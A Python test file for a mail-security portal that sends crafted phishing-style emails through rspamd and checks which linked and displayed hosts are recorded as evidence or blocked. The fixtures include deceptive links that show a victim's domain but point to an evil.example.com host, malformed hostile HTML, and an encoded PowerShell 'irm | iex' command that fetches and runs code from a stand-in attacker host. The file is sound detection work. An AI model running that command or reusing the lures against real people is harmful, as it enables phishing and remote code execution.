"""What a mail shows and where it leads, through the real rspamd: only the second is evidence."""

from __future__ import annotations

import email
import email.policy
import os
from base64 import b64encode
from email.message import EmailMessage
from pathlib import Path

import pytest
from beffroi.mail.models import MailMessage, MailObservation
from beffroi.portal import safe_html
from beffroi_protocol.errors import IndicatorInvalid
from beffroi_protocol.indicators import normalise

from tests import scan_samples as samples
from tests.conftest import Commune
from tests.mail_post import Post, needs_engines, until

pytest_plugins = ["tests.fixtures_mail"]
pytestmark = needs_engines

HEAD = """\
From: billing@sender.example.net
To: {to}
Subject: Avis
Message-ID: <{n}@sender.example.net>
Date: Tue, 24 Nov 2026 10:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary=b1

"""


def part(kind: str, text: str) -> str:
    return f"--b1\nContent-Type: text/{kind}; charset=utf-8\n\n{text}\n"


def alternative(to: str, number: int, *parts: tuple[str, str]) -> str:
    return HEAD.format(to=to, n=f"shown{number}") + "".join(part(*one) for one in parts) + "--b1--\n"


EVIL = "https://pay.evil.example.com/f"
HONEST = ("html", f'<p><a href="{EVIL}">Voir votre avis</a></p>')
CASES: list[tuple[str, list[tuple[str, str]], set[str], set[str]]] = [
    (
        "the text repeats what the HTML shows",
        [("plain", f"https://www.victime.fr/compte\n{EVIL}"),
         ("html", f'<a href="{EVIL}">https://www.victime.fr/compte</a>')],
        {"pay.evil.example.com"}, {"www.victime.fr"},
    ),
    (
        "the HTML comes first",
        [("html", f'<a href="{EVIL}">https://www.victime.fr/compte</a>'),
         ("plain", "Votre compte : https://www.victime.fr/compte")],
        {"pay.evil.example.com"}, {"www.victime.fr"},
    ),
    (
        "each part spells it in its own way",
        [("plain", "http://WWW.Victime.fr/ et la suite"),
         ("html", f'<a href="{EVIL}">https://www.victime.fr</a>')],
        {"pay.evil.example.com"}, {"www.victime.fr"},
    ),
    (
        "the text leads to another page of the host that is shown",
        [("plain", "https://www.victime.fr/autre"),
         ("html", f'<a href="{EVIL}">https://www.victime.fr/compte</a>')],
        {"pay.evil.example.com"}, {"www.victime.fr"},
    ),
    (
        "the HTML also leads to a page of the host that is shown",
        [("plain", "https://www.victime.fr/aide"),
         ("html", f'<a href="{EVIL}">https://www.victime.fr/compte</a><a href="https://www.victime.fr/aide">aide</a>')],
        {"pay.evil.example.com", "www.victime.fr"}, {"www.victime.fr"},
    ),
    (
        "an attacker shows his own page elsewhere, and also leads there",
        [("plain", EVIL),
         ("html", f'<a href="https://autre.example.com/x">{EVIL}</a> <a href="{EVIL}">ici</a>')],
        {"autre.example.com", "pay.evil.example.com"}, set(),
    ),
    (
        "a text alone leads where it says",
        [("plain", "https://www.seul.example.com/x"), HONEST],
        {"www.seul.example.com", "pay.evil.example.com"}, set(),
    ),
    (
        "a link that shows its own target",
        [("plain", EVIL), ("html", f'<a href="{EVIL}">{EVIL}</a>')],
        {"pay.evil.example.com"}, set(),
    ),
    (
        "a text whose lines go on",
        [("plain; format=flowed; delsp=yes",
          "Voir https://pay.evil.exam \nple.com/f, https://www.victime.fr. \nexample.com/x")],
        {"pay.evil.example.com", "www.victime.fr.example.com"}, {"ple.com", "example.com", "www.victime.fr"},
    ),
    (
        "shares elsewhere and near by",
        [("plain", r"Ouvrez \\pay.evil.example.com@SSL\docs ou \\SRV\commun"), ("html", r'<a href="file://a.example.com/x">x</a>')],
        {"pay.evil.example.com", "a.example.com"}, set(),
    ),
    (
        "a command to paste",
        [("plain", f"Win+R : powershell -e {b64encode(f'irm {EVIL}|iex'.encode('utf-16-le')).decode()}")],
        {"pay.evil.example.com"}, set(),
    ),
    (
        "hostile HTML: a link in a link, an empty one, a map, a script, one that is never closed",
        [("plain", "https://www.victime.fr/compte"),
         ("html", f'<a><a href="{EVIL}">https://www.victime.fr/compte</a><a href=""></a><a href="  ">z</a><map>'
                  '<area href="https://carte.example.com/"></map><a href=javascript:1>y</a>'
                  '<a href="https://ouvert.example.com/')],
        {"pay.evil.example.com", "carte.example.com"}, {"www.victime.fr"},
    ),
]  # fmt: skip


def hosts(message_id: str, role: str) -> set[str]:
    rows = MailObservation.objects.filter(message_id=message_id, role=role, kind="domain")
    return set(rows.values_list("value", flat=True))


def test_an_address_that_is_only_shown_is_no_landing(post: Post, beaune: Commune) -> None:
    box = post.mailbox(beaune, beaune.agent, "agent")
    found = {}
    for number, (name, parts, _links, _shown) in enumerate(CASES):
        assert post.send(alternative(box.address, number, *parts), box.address)[0] == 250, name
    post.wait_count(box, len(CASES))
    post.settle(len(CASES))
    for number, (name, _parts, _links, _shown) in enumerate(CASES):
        message = MailMessage.objects.get(message_id__contains=f"shown{number}@")
        found[name] = (hosts(message.id, "link"), hosts(message.id, "shown") - {"victime.fr", "fr"})
    assert found == {name: (links, shown) for name, _parts, links, shown in CASES}


def test_what_is_blocked_already_is_refused_also_where_it_is_only_shown(post: Post, beaune: Commune) -> None:
    box = post.mailbox(beaune, beaune.agent, "agent")
    post.block("url", EVIL)
    post.wait_gate(1)
    hidden = [("plain", EVIL), ("html", f'<a href="https://www.franc.example.com/">{EVIL}</a>')]
    assert post.send(alternative(box.address, 90, *hidden), box.address)[0] == 554
    assert post.send(alternative(box.address, 91, ("plain", "Bonjour")), box.address)[0] == 250


def test_pictures_of_a_blocked_host_refuse_the_mail_and_are_no_evidence(post: Post, beaune: Commune) -> None:
    """A newsletter's are those of a service that everybody uses."""
    box = post.mailbox(beaune, beaune.agent, "agent")
    shows = [
        (
            "html",
            '<img src="https://images.evil.example.com/logo.png"><a href="https://a.example.com/">ici</a>',
        )
    ]
    assert post.send(alternative(box.address, 80, *shows), box.address)[0] == 250
    post.wait_count(box, 1)
    post.settle(1)
    message = MailMessage.objects.get(message_id__contains="shown80@")
    assert hosts(message.id, "link") == {"a.example.com"}
    assert "images.evil.example.com" in hosts(message.id, "shown")
    post.block("domain", "images.evil.example.com")
    post.wait_gate(1)
    assert post.send(alternative(box.address, 81, *shows), box.address)[0] == 554


def test_an_address_in_the_text_of_a_document_is_only_shown(post: Post, beaune: Commune) -> None:
    """Readers make a link of it, and a line's end may have cut it."""
    box = post.mailbox(beaune, beaune.agent, "agent")

    def letter(number: int) -> bytes:
        made = EmailMessage()
        made["From"], made["To"], made["Subject"] = "billing@sender.example.net", box.address, "Avis"
        made["Message-ID"] = f"<document{number}@sender.example.net>"
        made.set_content("Voir le document.")
        made.add_attachment(
            samples.pdf(f"Consultez {EVIL}, merci."),
            maintype="application",
            subtype="pdf",
            filename="avis.pdf",
        )
        return made.as_bytes(policy=email.policy.SMTP)

    assert post.send(letter(1), box.address)[0] == 250
    post.wait_count(box, 1)
    post.settle(1)
    message = MailMessage.objects.get(message_id__contains="document1@")
    assert hosts(message.id, "link") == set() and "pay.evil.example.com" in hosts(message.id, "shown")
    post.block("url", EVIL)
    post.wait_gate(1)
    assert post.send(letter(2), box.address)[0] == 554


@pytest.mark.corpus
def test_real_lures_are_blamed_for_every_target_of_their_html(post: Post, beaune: Commune) -> None:
    """Every link that the real HTML parser of the portal finds in a lure is evidence against where it leads."""
    box = post.mailbox(beaune, beaune.agent, "agent")
    folder = Path(os.environ["BEFFROI_DATA"]) / "lures"
    sent = 0
    for path in sorted(folder.rglob("*.eml")):
        raw = path.read_bytes()
        parsed = email.message_from_bytes(raw, policy=email.policy.default)
        html = parsed.get_body(("html",))
        if html is None or parsed.get_body(("plain",)) is None or len(raw) > 200_000:
            continue
        try:
            links = safe_html.clean(html.get_content()).links
        except (LookupError, UnicodeError):
            continue
        if not 1 <= len(links) <= 30:
            continue
        number = f"real-{sent}@sender.example.net"
        if "Message-ID" in parsed:
            del parsed["Message-ID"]
        parsed["Message-ID"] = f"<{number}>"
        code, _ = post.send(
            parsed.as_bytes(policy=email.policy.SMTP), box.address, sender="a@sender.example.net"
        )
        if code != 250:
            continue  # the engine's own opinion of a known lure
        sent += 1
        until(lambda n=number: MailMessage.objects.filter(message_id__contains=n).exists(), number)
        message = MailMessage.objects.get(message_id__contains=number)
        blamed = hosts(message.id, "link")
        targets = {link.host for link in links if valid(link.host)}
        assert targets <= blamed, (path.name, targets - blamed)
        if sent >= 40:
            break
    assert sent >= 20


def valid(host: str) -> bool:
    try:
        return normalise("domain", host).value == host
    except IndicatorInvalid:
        return False
